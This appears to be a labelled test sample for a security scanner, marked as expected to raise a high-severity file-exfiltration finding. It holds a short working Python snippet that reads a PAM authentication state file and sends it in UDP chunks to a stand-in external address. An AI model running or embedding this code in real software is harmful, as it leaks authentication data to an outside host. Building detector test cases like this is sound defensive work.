# expect: HIGH category: file_exfiltration
# Sends PAM's authentication state in UDP datagrams.
import socket

sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
data = open("/var/lib/pam/auth", "rb").read()
for offset in range(0, len(data), 512):
    sock.sendto(data[offset:offset + 512], ("198.51.100.7", 5353))
